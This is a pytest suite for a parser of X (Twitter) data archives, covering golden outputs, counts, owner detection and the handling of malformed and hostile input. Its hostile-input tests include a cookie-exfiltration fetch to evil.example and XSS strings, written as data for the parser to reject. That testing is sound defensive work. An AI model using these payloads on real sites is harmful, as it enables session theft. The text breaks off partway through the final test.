"""The X (Twitter) archive reader: golden files per archive era, exact counts, hostile input, properties.

``tests/fixtures/x/<era>/`` holds a tiny archive in each era's exact layout
(``README.md`` there describes the people and what each era exercises).
``expected/*.golden.csv`` next to each archive is what :func:`netstats.sources._x.read`
must produce, written by :func:`write_golden` and checked by hand.  After a
change that is meant to alter the output, regenerate and review the diff::

    .venv/bin/python tests/test_platform_x.py          # every era
    .venv/bin/python tests/test_platform_x.py 2023     # one era

The tests never write golden files themselves.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import goldens
import pandas as pd
import pytest
from goldens import golden_text
from hypothesis import given, settings
from hypothesis import strategies as st

from netstats import schema as S
from netstats._errors import ExportFormatError, ParameterError
from netstats._export import Part
from netstats.sources import _x
from netstats.sources._archive import SourceFile

FIXTURES = Path(__file__).parent / "fixtures" / "x"
ERAS = ("2019", "2020", "2023")
GOLDEN_TABLES = ("connections", "messages", "invitations", "people", "ledger", "excluded", "quarantine")
OWNER = "3141592653"
SNOWFLAKE = "1453912894734520321"  # > 2**53: a float would turn it into ...520320


# ---------------------------------------------------------------- reading a fixture archive
def archive_files(era: str, *, skip: tuple[str, ...] = ()) -> list[SourceFile]:
    """The files of a fixture archive the X reader claims, as the archive layer hands them over."""
    root = FIXTURES / era
    files = []
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_file() and not rel.startswith("expected/") and rel not in skip:
            kind = _x.claim(rel)
            if kind is not None:
                files.append(SourceFile(kind, rel, path.read_bytes(), _x.FAMILY))
    return files


def read_era(era: str, **kwargs) -> Part:
    [part] = _x.read(archive_files(era, **kwargs), source=f"twitter-{era}.zip")
    return part


def js(global_name: str, data, style: str = "lines") -> bytes:
    """A data file as X writes it: the JavaScript wrapper and pretty-printed JSON (2020 or 2022+ layout)."""
    return f"{global_name} = {(_jackson if style == 'jackson' else _lines)(data)}".encode()


def _jackson(value, indent: int = 0) -> str:
    """2019-2021 layout: arrays inline ('[ {'), one object key per line, ' : ' separators."""
    pad = " " * indent
    if isinstance(value, dict):
        inner = ",\n".join(f"{pad}  {json.dumps(k)} : {_jackson(v, indent + 2)}" for k, v in value.items())
        return "{\n" + inner + f"\n{pad}}}" if value else "{ }"
    if isinstance(value, list):
        return "[ " + ", ".join(_jackson(v, indent) for v in value) + " ]" if value else "[ ]"
    return json.dumps(value, ensure_ascii=False)


def _lines(value, indent: int = 0) -> str:
    """2022+ layout: every array element on its own line."""
    pad = " " * indent
    if isinstance(value, dict):
        inner = ",\n".join(f"{pad}  {json.dumps(k)} : {_lines(v, indent + 2)}" for k, v in value.items())
        return "{\n" + inner + f"\n{pad}}}" if value else "{ }"
    if isinstance(value, list):
        return (
            "[\n" + ",\n".join(f"{pad}  {_lines(v, indent + 2)}" for v in value) + f"\n{pad}]"
            if value
            else "[ ]"
        )
    return json.dumps(value, ensure_ascii=False)


def account_file(account_id: str = OWNER, name: str = "Ann Lee") -> SourceFile:
    data = [
        {
            "account": {
                "username": "ann_lee_dev",
                "accountId": account_id,
                "createdAt": "2012-05-04T09:12:33.000Z",
                "accountDisplayName": name,
            }
        }
    ]
    return SourceFile(_x.ACCOUNT, "data/account.js", js("window.YTD.account.part0", data), _x.FAMILY)


def dm_file(
    conversations,
    name: str = "data/direct-messages.js",
    global_name: str = "window.YTD.direct_messages.part0",
    style: str = "lines",
) -> SourceFile:
    kind = _x.claim(name)
    return SourceFile(kind, name, js(global_name, conversations, style), _x.FAMILY)


def message(sender: str, recipient: str | None, mid: str, at: str, text: str = "hi", **extra) -> dict:
    body = {} if recipient is None else {"recipientId": recipient}
    body.update({"text": text, "mediaUrls": [], "senderId": sender, "id": mid, "createdAt": at, **extra})
    return {"messageCreate": body}


def conversation(cid: str, events: list) -> dict:
    return {"dmConversation": {"conversationId": cid, "messages": events}}


def read(*files: SourceFile, **kwargs) -> Part:
    [part] = _x.read(list(files), source="archive.zip", **kwargs)
    return part


def assert_balanced(part: Part) -> None:
    ledger = part.ledger
    assert (ledger[S.ROWS_READ] == ledger[S.KEPT] + ledger[S.EXCLUDED] + ledger[S.QUARANTINED]).all()
    for file, row in ledger.set_index(S.FILE).iterrows():
        assert (part.excluded[S.FILE] == file).sum() == row[S.EXCLUDED]
        assert (part.quarantine[S.FILE] == file).sum() == row[S.QUARANTINED]


# ---------------------------------------------------------------- golden text form
def _tables(part: Part) -> dict[str, pd.DataFrame]:
    tables = {name: golden_text(getattr(part, name)) for name in GOLDEN_TABLES}
    owner = part.owner
    tables["owner"] = pd.DataFrame(
        {
            "owner_name": [owner.name or ""],
            "owner_id": [owner.contact_id],
            "found_by": [owner.found_by],
            "latest": [part.latest.isoformat() if part.latest is not None else ""],
        }
    )
    tables["notes"] = pd.DataFrame({"note": list(part.notes)}, dtype=object)
    return tables


def write_golden(*eras: str) -> None:
    """Write ``expected/*.golden.csv`` for the given eras (all when none); run by hand, review the diff."""
    for era in eras or ERAS:
        goldens.write_goldens(FIXTURES / era / "expected", _tables(read_era(era)))


def read_golden(era: str, name: str) -> pd.DataFrame:
    return goldens.read_golden(FIXTURES / era / "expected", name)


@pytest.fixture(scope="module")
def parts() -> dict[str, Part]:
    return {era: read_era(era) for era in ERAS}


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("table", [*GOLDEN_TABLES, "owner", "notes"])
def test_read_reproduces_the_golden_table(parts, era, table):
    actual = _tables(parts[era])[table]
    expected = read_golden(era, table)
    if expected.empty:
        expected, actual = expected.astype(object), actual.astype(object)
    pd.testing.assert_frame_equal(actual, expected, check_dtype=False, check_index_type=False)


def test_the_golden_files_cover_every_era():
    assert sorted(p.name for p in FIXTURES.iterdir() if p.is_dir()) == sorted(ERAS)
    for era in ERAS:
        names = {
            p.name.removesuffix(".golden.csv") for p in (FIXTURES / era / "expected").glob("*.golden.csv")
        }
        assert names == {*GOLDEN_TABLES, "owner", "notes"}


# ---------------------------------------------------------------- exact counts, by hand
def _ledger(part: Part) -> dict[str, tuple]:
    return {
        r[S.FILE]: (r[S.ERA], r[S.ROWS_READ], r[S.KEPT], r[S.EXCLUDED], r[S.QUARANTINED])
        for _, r in part.ledger.iterrows()
    }


def test_2019_root_level_archive(parts):
    part = parts["2019"]
    assert part.platform == S.X and part.source == "twitter-2019.zip"
    assert (part.owner.contact_id, part.owner.name, part.owner.found_by) == (
        "x:3141592653",
        "Ann Lee",
        "account.js accountId",
    )
    assert _ledger(part) == {
        "account.js": ("2019", 1, 1, 0, 0),
        "direct-message.js": ("2019", 4, 4, 0, 0),
        "follower.js": ("2019", 2, 2, 0, 0),
        "following.js": ("2019", 2, 2, 0, 0),
    }
    conn = part.connections.set_index(S.CONTACT_ID)[S.RELATIONSHIP].to_dict()
    assert conn == {"x:1001": "mutual_follow", "x:2002": "follower", "x:3003": "following"}
    assert part.connections[S.NAME].isna().all() and part.connections[S.CONNECTED_ON].isna().all()
    msgs = part.messages
    assert len(msgs) == 4 and msgs[S.DIRECTION].tolist() == ["sent", "received", "sent", "sent"]
    # newest first in the file, oldest first in the table
    assert msgs[S.SOURCE_LINE].tolist() == [3, 2, 1, 4]
    assert msgs.groupby(S.CONVERSATION_ID)[S.SENT_AT].apply(lambda t: t.is_monotonic_increasing).all()
    assert msgs[S.FOLDER].eq("direct_messages").all() and not msgs[S.IS_GROUP].any()
    assert msgs.loc[msgs[S.DIRECTION].eq("sent"), S.SENDER_NAME].eq("Ann Lee").all()
    assert msgs.loc[msgs[S.DIRECTION].eq("received"), S.SENDER_NAME].isna().all()
    assert part.people[S.CONTACT_ID].tolist() == ["x:1001", "x:2002", "x:3003"]
    assert part.people[S.SEEN_IN].tolist() == ["connections,messages", "connections", "connections,messages"]
    assert part.people[S.IS_CONNECTION].tolist() == [True, False, False]
    assert part.latest == pd.Timestamp("2019-04-11T12:00:00Z")


def test_2020_archive_excludes_reactions_welcome_messages_and_header_copies(parts):
    part = parts["2020"]
    assert _ledger(part) == {
        "data/account.js": ("2020+", 1, 1, 0, 0),
        "data/direct-message-group-headers.js": ("headers", 4, 0, 4, 0),
        "data/direct-message-headers.js": ("headers", 7, 0, 7, 0),
        "data/direct-messages-group.js": ("2020", 4, 2, 2, 0),
        "data/direct-messages.js": ("2020", 7, 5, 2, 0),
        "data/follower.js": ("2020+", 3, 3, 0, 0),
        "data/following.js": ("2020+", 3, 3, 0, 0),
        "data/manifest.js": ("2020+", 1, 1, 0, 0),
    }
    reasons = part.excluded.groupby(S.REASON).size().to_dict()
    assert reasons == {_x.X_HEADERS: 11, _x.X_REACTION: 2, _x.X_WELCOME: 1, _x.X_GROUP_EVENT: 1}
    assert part.quarantine.empty
    msgs = part.messages
    assert len(msgs) == 7
    media = msgs.loc[msgs[S.HAS_ATTACHMENT]]
    assert len(media) == 1 and media[S.CONTENT].isna().all()  # the text is only the media's t.co link
    assert "Ηράκλειο was lovely 🌞 — thanks for the tip!" in msgs[S.CONTENT].dropna().tolist()
    group = msgs.loc[msgs[S.IS_GROUP]]
    assert group[S.FOLDER].eq("direct_messages_group").all()
    assert [list(r) for r in group[S.RECIPIENT_IDS]] == [["x:3141592653", "x:4004"], ["x:1001", "x:4004"]]
    assert part.latest == pd.Timestamp("2020-06-20T07:01:12.345Z")  # manifest.js generationDate
    assert set(part.connections[S.RELATIONSHIP]) == {"mutual_follow", "follower", "following"}


def test_2023_archive_with_parts_inline_reactions_and_a_group_that_changes(parts):
    part = parts["2023"]
    assert _ledger(part) == {
        "data/account.js": ("2020+", 1, 1, 0, 0),
        "data/direct-message-group-headers.js": ("headers", 7, 0, 7, 0),
        "data/direct-message-headers.js": ("headers", 6, 0, 6, 0),
        "data/direct-messages-group.js": ("2023+", 7, 3, 4, 0),
        "data/direct-messages-part1.js": ("2023+", 2, 2, 0, 0),
        "data/direct-messages.js": ("2023+", 4, 4, 0, 0),
        "data/follower.js": ("2020+", 3, 3, 0, 0),
        "data/following.js": ("2020+", 3, 3, 0, 0),
        "data/manifest.js": ("2020+", 1, 1, 0, 0),
    }
    msgs = part.messages
    assert len(msgs) == 9
    # inline reactions are not messages; the part1 split is read
    assert (msgs[S.CONVERSATION_ID] == f"x:{OWNER}-{SNOWFLAKE}").sum() == 2
    group = msgs.loc[msgs[S.IS_GROUP]].reset_index(drop=True)
    assert group[S.CONVERSATION_TITLE].eq("Book club <3").all()
    # 6006 joins after the first message; 5005 writes, then leaves before the owner's message
    assert [list(r) for r in group[S.RECIPIENT_IDS]] == [
        ["x:1001", "x:3141592653", "x:5005"],
        ["x:1001", "x:3141592653", "x:4004", "x:6006"],
        ["x:1001", "x:4004", "x:6006"],
    ]
    assert group[S.DIRECTION].tolist() == ["received", "received", "sent"]
    # hostile text is kept as text, byte for byte
    assert (
        "<img src=x onerror=alert(1)> is what they put in my bio \u202egnp.exe"
        in msgs[S.CONTENT].dropna().tolist()
    )
    assert "Congrats on the new role!\nLet's catch up." in msgs[S.CONTENT].dropna().tolist()
    empty_media = msgs.loc[msgs[S.HAS_ATTACHMENT]]
    assert len(empty_media) == 1 and empty_media[S.CONTENT].isna().all()
    people = part.people.set_index(S.CONTACT_ID)
    assert people.index.tolist() == [
        "x:1001",
        f"x:{SNOWFLAKE}",
        "x:2002",
        "x:3003",
        "x:4004",
        "x:5005",
        "x:6006",
    ]
    assert people[S.IS_CONNECTION].sum() == 2
    assert people.loc["x:6006", S.SEEN_IN] == "messages"


def test_snowflake_ids_survive_exactly(parts):
    part = parts["2023"]
    assert f"x:{SNOWFLAKE}" in part.connections[S.CONTACT_ID].tolist()
    assert f"x:{SNOWFLAKE}" in part.messages[S.SENDER_ID].tolist()
    assert part.people.loc[part.people[S.CONTACT_ID].eq(f"x:{SNOWFLAKE}"), S.HANDLE].item() == SNOWFLAKE
    assert [f"x:{SNOWFLAKE}"] in [list(r) for r in part.messages[S.RECIPIENT_IDS]]
    assert int(float(SNOWFLAKE)) != int(SNOWFLAKE)  # why it matters


def test_tables_have_the_schema_columns_and_dtypes(parts):
    for part in parts.values():
        for table, columns in (
            (part.connections, S.CONNECTIONS_COLUMNS),
            (part.messages, S.MESSAGES_COLUMNS),
            (part.people, S.PEOPLE_COLUMNS),
            (part.ledger, S.LEDGER_COLUMNS),
            (part.excluded, S.EXCLUDED_COLUMNS),
            (part.quarantine, S.QUARANTINE_COLUMNS),
        ):
            assert tuple(table.columns) == columns
            assert table.dtypes.astype(str).to_dict() == S.empty_frame(columns).dtypes.astype(str).to_dict()
            if len(table):
                assert table[S.PLATFORM].eq(S.X).all()
        assert str(part.invitations[S.SENT_AT].dtype) == "datetime64[ns]" and part.invitations.empty
        assert part.messages[S.SENDER_URL].isna().all() and part.messages[S.SUBJECT].isna().all()
        assert not part.messages[S.IS_SPONSORED].any()
        assert_balanced(part)


# ---------------------------------------------------------------- claiming and sniffing
def test_every_fixture_file_is_claimed_by_name_and_by_content_alike():
    for era in ERAS:
        for file in archive_files(era):
            assert _x.sniff(file.data[:4096]) == file.logical, file.name


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("data/account.js", "account"),
        ("twitter-2023-08-15-abc/data/manifest.js", "manifest"),
        ("follower.js", "follower"),
        ("data/following-part2.js", "following"),
        ("direct-message.js", "direct_messages"),
        ("data/direct-messages-part1.js", "direct_messages"),
        ("data/direct-messages-group.js", "direct_messages_group"),
        ("data\\direct-message-headers.js", "direct_message_headers"),
        ("data/direct-message-group-headers.js", "direct_message_group_headers"),
        ("data/tweets.js", None),
        ("data/tweet.js", None),
        ("data/README.txt", None),
        ("Your archive.html", None),
        ("data/account.json", None),
        ("Connections.csv", None),
        ("messages/inbox/ann_1/message_1.json", None),
    ],
)
def test_claim(name, kind):
    assert _x.claim(name) == kind


@pytest.mark.parametrize(
    "head",
    [
        b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n",
        b'Notes:\n"When exporting your connection data',
        b'{\n  "participants": [\n    {\n      "name": "Ann"\n    }\n  ],',
        b'[\n  {\n    "title": "",\n    "media_list_data": [],\n    "string_list_data": [',
        b"[12/03/2023, 09:15:02] Ann Lee: Hi\n",
        b"BEGIN:VCARD\r\nVERSION:3.0\r\n",
        b"From 1789@xxx Mon Jan 01 00:00:00 +0000 2024\nX-GM-THRID: 1\n",
        b"window.YTD.tweets.part0 = [ {",
        b"alert(1); window.YTD.follower.part0 = [",
        b"",
    ],
)
def test_sniff_leaves_other_files_alone(head):
    assert _x.sniff(head) is None


def test_sniff_reads_a_bom_and_the_singular_2019_global():
    assert _x.sniff("\ufeffwindow.YTD.direct_message.part0 = [ {".encode()) == _x.DIRECT_MESSAGES
    assert _x.sniff(b"window.__THAR_CONFIG = {\n") == _x.MANIFEST


def test_parts_are_repeatable_and_the_account_is_not():
    assert _x.DIRECT_MESSAGES in _x.REPEATABLE and _x.FOLLOWER in _x.REPEATABLE
    assert _x.ACCOUNT not in _x.REPEATABLE and _x.MANIFEST not in _x.REPEATABLE
    assert _x.read([], source="x.zip") == []


# ---------------------------------------------------------------- headers, manifest, owner
def test_headers_are_read_when_the_full_files_are_absent():
    part = read_era(
        "2023",
        skip=("data/direct-messages.js", "data/direct-messages-part1.js", "data/direct-messages-group.js"),
    )
    full = read_era("2023")
    assert len(part.messages) == len(full.messages) == 9
    assert part.messages[S.CONTENT].isna().all() and not part.messages[S.HAS_ATTACHMENT].any()
    same = [S.CONVERSATION_ID, S.SENT_AT, S.SENDER_ID, S.DIRECTION, S.IS_GROUP]
    pd.testing.assert_frame_equal(part.messages[same], full.messages[same])
    assert [list(r) for r in part.messages[S.RECIPIENT_IDS]] == [
        list(r) for r in full.messages[S.RECIPIENT_IDS]
    ]
    assert _x.NOTE_HEADERS.format(what="1:1 conversations and group conversations") in part.notes
    missing = [n for n in part.notes if n.startswith("manifest.js lists 3 X file(s)")]
    assert missing == [
        (
            "manifest.js lists 3 X file(s) that are not in the export (direct-messages-group.js, "
            "direct-messages-part1.js, direct-messages.js): the archive may be incomplete."
        )
    ]
    assert _ledger(part)["data/direct-message-headers.js"] == ("headers", 6, 6, 0, 0)
    assert _ledger(part)["data/direct-message-group-headers.js"] == ("headers", 7, 3, 4, 0)


def _manifest(account_id: str = OWNER, partial: bool = False, files=()) -> SourceFile:
    config = {
        "userInfo": {"accountId": account_id, "userName": "ann_lee_dev", "displayName": "Ann L."},
        "archiveInfo": {
            "sizeBytes": "1",
            "generationDate": "2023-08-15T06:30:00.000Z",
            "isPartialArchive": partial,
            "maxPartSizeBytes": "53687091200",
        },
        "dataTypes": {
            "directMessages": {
                "files": [
                    {"fileName": f, "globalName": "YTD.direct_messages.part0", "count": "1"} for f in files
                ]
            }
        },
    }
    return SourceFile(
        _x.MANIFEST, "data/manifest.js", ("window.__THAR_CONFIG = " + _lines(config)).encode(), _x.FAMILY
    )


def test_the_manifest_alone_names_the_owner_and_says_when_the_archive_is_partial():
    part = read(
        _manifest(partial=True),
        dm_file([conversation(f"1001-{OWNER}", [message("1001", OWNER, "5", "2023-01-02T03:04:05.678Z")])]),
    )
    assert (part.owner.contact_id, part.owner.name, part.owner.found_by) == (
        f"x:{OWNER}",
        "Ann L.",
        "manifest.js userInfo accountId",
    )
    assert _x.NOTE_PARTIAL in part.notes
    assert part.latest == pd.Timestamp("2023-08-15T06:30:00Z")
    assert part.messages[S.SENT_AT].tolist() == [pd.Timestamp("2023-01-02T03:04:05.678Z")]


def test_account_and_manifest_naming_different_owners_is_refused():
    with pytest.raises(ExportFormatError, match="different accounts"):
        read(account_file(), _manifest(account_id="999"))


def test_without_account_or_manifest_the_owner_is_the_account_in_every_conversation():
    dms = dm_file(
        [
            conversation(f"1001-{OWNER}", [message("1001", OWNER, "5", "2023-01-02T03:04:05.000Z")]),
            conversation(f"{OWNER}-2002", [message(OWNER, "2002", "6", "2023-01-03T03:04:05.000Z")]),
        ]
    )
    part = read(dms)
    assert (part.owner.contact_id, part.owner.found_by) == (
        f"x:{OWNER}",
        "the only account in every conversation",
    )
    assert part.messages[S.DIRECTION].tolist() == ["received", "sent"]


def test_without_account_or_manifest_one_conversation_needs_owner_given():
    dms = dm_file([conversation(f"1001-{OWNER}", [message("1001", OWNER, "5", "2023-01-02T03:04:05.000Z")])])
    with pytest.raises(ExportFormatError) as err:
        read(dms)
    assert "owner=" in str(err.value) and "data/direct-messages.js" in str(err.value)
    part = read(dms, owner=["Ann Lee", f"x:{OWNER}"])
    assert (part.owner.contact_id, part.owner.found_by) == (f"x:{OWNER}", "owner= given by the user")
    assert part.messages[S.DIRECTION].tolist() == ["received"]
    with pytest.raises(ParameterError):
        read(dms, owner=OWNER)


def test_an_archive_with_only_account_js_gives_empty_tables():
    part = read(account_file())
    assert part.connections.empty and part.messages.empty and part.people.empty and part.notes == ()
    assert part.latest == pd.Timestamp(
        "2012-05-04T09:12:33Z"
    )  # the newest dated record: the account's creation
    assert _ledger(part) == {"data/account.js": ("2020+", 1, 1, 0, 0)}


def test_the_owner_name_is_kept_as_text_whatever_it_holds():
    name = '<img src=x onerror="alert(1)">\u202eAnn\u200b Lee'
    part = read(
        account_file(name=name),
        dm_file([conversation(f"1001-{OWNER}", [message(OWNER, "1001", "5", "2023-01-02T03:04:05.000Z")])]),
    )
    assert part.owner.name == name
    assert part.messages[S.SENDER_NAME].tolist() == [name]


def test_a_manifest_without_user_or_archive_info_is_quarantined():
    empty = SourceFile(_x.MANIFEST, "data/manifest.js", b'window.__THAR_CONFIG = {\n  "x" : 1\n}', _x.FAMILY)
    part = read(account_file(), empty)
    assert part.quarantine[[S.FILE, S.LINE, S.REASON, S.RAW]].values.tolist() == [
        ["data/manifest.js", 1, _x.Q_MANIFEST, '{"x": 1}']
    ]
    assert part.owner.found_by == "account.js accountId"
    assert_balanced(part)


def test_two_accounts_in_account_js_are_refused():
    data = [{"account": {"accountId": "1"}}, {"account": {"accountId": "2"}}]
    with pytest.raises(ExportFormatError, match="more than one account"):
        read(SourceFile(_x.ACCOUNT, "data/account.js", js("window.YTD.account.part0", data), _x.FAMILY))


# ---------------------------------------------------------------- hostile input: clear errors
@pytest.mark.parametrize(
    ("data", "problem", "line"),
    [
        (b"alert(1); window.YTD.follower.part0 = [ ]", "does not start with the X archive wrapper", 1),
        (b"window.YTD.follower.part0 = [ ]; alert(1)", "code after the JSON", 1),
        (
            b'window.YTD.follower.part0 = [ ]\nfetch("https://evil.example/?" + document.cookie)',
            "code after the JSON",
            2,
        ),
        (b"window.YTD.follower.part0 = (function(){ return [] })()", "malformed JSON", 1),
        (
            b'window.YTD.follower.part0 = [ {\n  "follower" : {\n    "accountId" : "1",\n  }\n} ]',
            "malformed JSON",
            4,
        ),
        (b'window.YTD.follower.part0 = {"follower": []}', "is not a list", 1),
        (b"window.YTD.follower.part0 = ", "malformed JSON", 1),
        (b"var x = 1; window.YTD.follower.part0 = []", "does not start with the X archive wrapper", 1),
        (b"window.YTD.tweets.part0 = [ ]", "data type netstats does not read", 1),
        (
            b'\n\nwindow.YTD.follower.part0 = [ {\n  "follower" : { "accountId" : "1" }\n}, ',
            "malformed JSON",
            5,
        ),
    ],
)
def test_files_that_are_not_wrapped_json_give_a_clear_error(data, problem, line):
    with pytest.raises(ExportFormatError) as err:
        read(account_file(), SourceFile(_x.FOLLOWER, "data/follower.js", data, _x.FAMILY))
    assert problem in str(err.value)
    assert err.value.file == "data/follower.js" and err.value.line == line
    assert "window.YTD" in err.value.expected and err.value.fix


def test_a_manifest_that_is_not_the_thar_config_is_an_error():
    bad = SourceFile(_x.MANIFEST, "data/manifest.js", b"window.__THAR_CONFIG = [1, 2]", _x.FAMILY)
    with pytest.raises(ExportFormatError, match="not an object"):
        read(bad)
    bad = SourceFile(
        _x.MANIFEST, "data/manifest.js", b"document.write('x'); window.__THAR_CONFIG = {}", _x.FAMILY
    )
    with pytest.raises(ExportFormatError, match="wrapper"):
        read(bad)


def test_deeply_nested_json_is_an_error_not_a_crash():
    data = b"window.YTD.follower.part0 = " + b"[" * 200_000 + b"]" * 200_000
    with pytest.raises(ExportFormatError, match="nested too deeply"):
        read(account_file(), SourceFile(_x.FOLLOWER, "data/follower.js", data, _x.FAMILY))


def test_text_that_is_not_utf8_is_an_error():
    text = 'window.YTD.account.part0 = [ {"account" : {"accountId" : "1", "accountDisplayName" : "Zoë"}} ]'
    data = text.encode("latin-1")
    with pytest.raises(ExportFormatError, match="cannot be decoded as UTF-8") as err:
        read(SourceFile(_x.ACCOUNT, "data/account.js", data, _x.FAMILY))
    assert "encoding=" in err.value.fix and err.value.line == 1
    part = read(SourceFile(_x.ACCOUNT, "data/account.js", data, _x.FAMILY), encoding="latin-1")
    assert part.owner.name == "Zoë"
    with pytest.raises(ExportFormatError, match="unknown text encoding"):  # as every reader says it
        read(SourceFile(_x.ACCOUNT, "data/account.js", data, _x.FAMILY), encoding="no-such-codec")


def test_errors_never_quote_the_data():
    secret = "my bank pin is 4321"
    data = js(
        "window.YTD.direct_messages.part0",
        [conversation(f"1-{OWNER}", [message("1", OWNER, "2", "2023-01-01T00:00:00.000Z", secret)])],
    )
    with pytest.raises(ExportFormatError) as err:
        read(
            account_file(),
            SourceFile(_x.DIRECT_MESSAGES, "data/direct-messages.js", data + b" garbage", _x.FAMILY),
        )
    assert secret not in str(err.value)


# ---------------------------------------------------------------- hostile input: quarantined records
def test_records_that_cannot_be_read_are_quarantined_with_a_reason():
    good = message("1001", OWNER, "10", "2023-01-01T00:00:00.000Z", "fine")
    conversations = [
        conversation(
            f"1001-{OWNER}",
            [
                good,
                {
                    "messageCreate": {
                        "recipientId": OWNER,
                        "text": "numeric sender",
                        "mediaUrls": [],
                        "senderId": 1001,
                        "id": "11",
                        "createdAt": "2023-01-01T00:00:01.000Z",
                    }
                },
                {
                    "messageCreate": {
                        "recipientId": OWNER,
                        "text": "float id",
                        "mediaUrls": [],
                        "senderId": "1001",
                        "id": 1.4539128947345203e18,
                        "createdAt": "2023-01-01T00:00:02.000Z",
                    }
                },
                message("1001", int(OWNER), "12", "2023-01-01T00:00:03.000Z"),
                message("1001", OWNER, "13", "1970-01-01T00:00:00.000Z"),
                message("1001", OWNER, "14", "9999-12-31T23:59:59.000Z"),
                message("1001", OWNER, "15", "yesterday"),
                message("1001", OWNER, "16", "2023-02-30T00:00:00.000Z"),
                message("1001", OWNER, "17", "2023-01-01T00:00:04.000Z", {"nested": ["text"]}),
                message("1001", OWNER, "18", "2023-01-01T00:00:05.000Z", mediaUrls="not a list"),
                message("2002", OWNER, "19", "2023-01-01T00:00:06.000Z"),
                {
                    "messageCreate": {
                        "senderId": "1001",
                        "createdAt": "2023-01-01T00:00:07.000Z",
                        "recipientId": OWNER,
                    }
                },
                {"messageCreate": "a string"},
                {"messageCreate": {}, "reactionCreate": {}},
                {"futureEventType": {"senderId": "1001"}},
                "not even an object",
            ],
        ),
        conversation("1001-2002", [message("1001", "2002", "20", "2023-01-01T00:00:00.000Z")]),
        conversation("not-an-id", [message("1001", OWNER, "21", "2023-01-01T00:00:00.000Z")]),
        {"dmConversation": {"conversationId": 42, "messages": []}},
        {"dmConversation": {"conversationId": f"1001-{OWNER}"}},
        ["a", "list"],
    ]
    part = read(account_file(), dm_file(conversations))
    quarantine = part.quarantine
    assert quarantine[[S.LINE, S.REASON]].values.tolist() == [
        [2, _x.Q_SENDER_ID],
        [3, _x.Q_MESSAGE_ID],
        [4, _x.Q_RECIPIENT_ID],
        [5, _x.Q_TIME_RANGE],
        [6, _x.Q_TIME_RANGE],
        [7, _x.Q_TIME],
        [8, _x.Q_TIME],
        [9, _x.Q_TEXT],
        [10, _x.Q_MEDIA],
        [11, _x.Q_NOT_IN_CONVERSATION],
        [12, _x.Q_MESSAGE_ID],
        [13, _x.Q_NOT_EVENT],
        [14, _x.Q_NOT_EVENT],
        [15, _x.Q_UNKNOWN_EVENT],
        [16, _x.Q_NOT_EVENT],
        [17, _x.Q_NOT_OWNERS],
        [18, _x.Q_CONVERSATION_ID],
        [19, _x.Q_NOT_CONVERSATION],
        [20, _x.Q_NOT_CONVERSATION],
        [21, _x.Q_NOT_CONVERSATION],
    ]
    assert json.loads(quarantine[S.RAW].iloc[0])["messageCreate"]["senderId"] == 1001
    assert quarantine[S.RAW].iloc[-1] == '["a", "list"]'
    assert part.messages[S.CONTENT].tolist() == ["fine"]
    assert _ledger(part)["data/direct-messages.js"] == ("2020", 21, 1, 0, 20)
    assert_balanced(part)


def test_follow_entries_that_cannot_be_read_are_quarantined_and_duplicates_excluded():
    items = [
        {"follower": {"accountId": "1001"}},
        {"follower": {"accountId": 1002}},
        {"follower": {"userLink": "https://twitter.com/intent/user?user_id=1003"}},
        {"following": {"accountId": "1004"}},
        {"follower": {"accountId": "1001"}},
        {"follower": {"accountId": "<script>alert(1)</script>"}},
        "1005",
    ]
    part_two = [{"follower": {"accountId": "1001"}}, {"follower": {"accountId": SNOWFLAKE}}]
    part = read(
        account_file(),
        SourceFile(_x.FOLLOWER, "data/follower.js", js("window.YTD.follower.part0", items), _x.FAMILY),
        SourceFile(
            _x.FOLLOWER, "data/follower-part1.js", js("window.YTD.follower.part1", part_two), _x.FAMILY
        ),
    )
    assert part.quarantine[[S.LINE, S.REASON]].values.tolist() == [
        [2, _x.Q_ACCOUNT_ID],
        [3, _x.Q_ACCOUNT_ID],
        [4, _x.Q_NOT_FOLLOW_ENTRY],
        [6, _x.Q_ACCOUNT_ID],
        [7, _x.Q_NOT_FOLLOW_ENTRY],
    ]
    assert part.excluded[[S.FILE, S.LINE, S.REASON]].values.tolist() == [
        ["data/follower-part1.js", 1, _x.X_DUPLICATE_ENTRY],
        ["data/follower.js", 5, _x.X_DUPLICATE_ENTRY],
    ]
    assert part.connections[S.CONTACT_ID].tolist() == ["x:1001", f"x:{SNOWFLAKE}"]
    assert part.connections[S.RELATIONSHIP].eq(S.REL_FOLLOWER).all()
    assert_balanced(part)


def test_a_message_read_twice_is_kept_once():
    events = [message("1001", OWNER, "77", "2023-01-01T00:00:00.000Z")]
    part = read(
        account_file(),
        dm_file([conversation(f"1001-{OWNER}", events)]),
        dm_file(
            [conversation(f"1001-{OWNER}", events)],
            name="data/direct-messages-part1.js",
            global_name="window.YTD.direct_messages.part1",
        ),
    )
    assert len(part.messages) == 1
    assert part.excluded[[S.FILE, S.REASON]].values.tolist() == [
        ["data/direct-messages-part1.js", _x.X_DUPLICATE_MESSAGE]
    ]


def test_a_huge_string_is_quarantined_with_its_raw_text_capped():
    huge = "A" * 3_000_000
    part = read(
        account_file(),
        dm_file([conversation(f"1001-{OWNER}", [message("1001", OWNER, huge, "2023-01-01T00:00:00.000Z")])]),
    )
    assert part.quarantine[S.REASON].tolist() == [_x.Q_MESSAGE_ID]
    assert len(part.quarantine[S.RAW].item()) == 2000


def test_a_huge_message_text_is_kept_whole():
    huge = "B" * 1_000_000
    part = read(
        account_file(),
        dm_file(
            [conversation(f"1001-{OWNER}", [message("1001", OWNER, "1", "2023-01-01T00:00:00.000Z", huge)])]
        ),
    )
    assert part.messages[S.CONTENT].item() == huge


def test_group_events_with_bad_member_lists_are_quarantined():
    events = [
        message("1001", None, "30", "2023-03-01T10:00:00.000Z"),
        {"participantsLeave": {"userIds": "2002", "createdAt": "2023-02-28T10:00:00.000Z"}},
        {
            "participantsJoin": {
                "initiatingUserId": "1001",
                "userIds": [3003],
                "createdAt": "2023-02-27T10:00:00.000Z",
            }
        },
        {
            "joinConversation": {
                "initiatingUserId": "1001",
                "participantsSnapshot": [OWNER, "1001", "2002"],
                "createdAt": "soon",
            }
        },
        {
            "joinConversation": {
                "initiatingUserId": "1001",
                "participantsSnapshot": [OWNER, "1001", "4004"],
                "createdAt": "2023-02-26T10:00:00.000Z",
            }
        },
    ]
    part = read(
        account_file(),
        dm_file(
            [conversation("900", events)],
            name="data/direct-messages-group.js",
